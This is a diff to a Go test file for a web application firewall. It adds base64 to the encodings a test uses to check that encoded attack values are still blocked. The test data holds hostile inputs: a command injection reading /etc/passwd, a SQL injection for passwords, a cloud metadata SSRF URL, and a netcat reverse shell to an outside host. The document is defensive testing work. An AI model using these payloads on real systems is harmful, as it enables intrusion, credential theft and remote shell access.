@@ -1,6 +1,7 @@
 package waf_test
 
 import (
+	"encoding/base64"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -176,7 +177,7 @@ func queryRequest(v string) *http.Request {
 }
 
 // A query value encoded once more than a server decodes (double URL
-// encoding, HTML character references) is inspected decoded too
+// encoding, HTML numeric references, base64 of text) is inspected decoded too
 // (waf/decoded.go): attacks CRS's rules miss in that form are blocked and
 // named on the argument, the pasted exclusion lets the request pass, and
 // benign values so encoded pass.
@@ -188,7 +189,7 @@ func TestDecodedQuery_BlockedAndTunable(t *testing.T) {
 	for _, enc := range []struct {
 		name   string
 		encode func(string) string
-	}{{"double URL", url.QueryEscape}, {"HTML entities", entityEscape}} {
+	}{{"double URL", url.QueryEscape}, {"HTML entities", entityEscape}, {"base64", func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }}} {
 		for _, a := range []string{";cat /etc/passwd", "' UNION SELECT password FROM users--", "http://169.254.169.254/latest/meta-data/", "&& whoami", "| nc -e /bin/sh 10.0.0.1 4444"} {
 			r := queryRequest(enc.encode(a))
 			v := plain.Check(r)
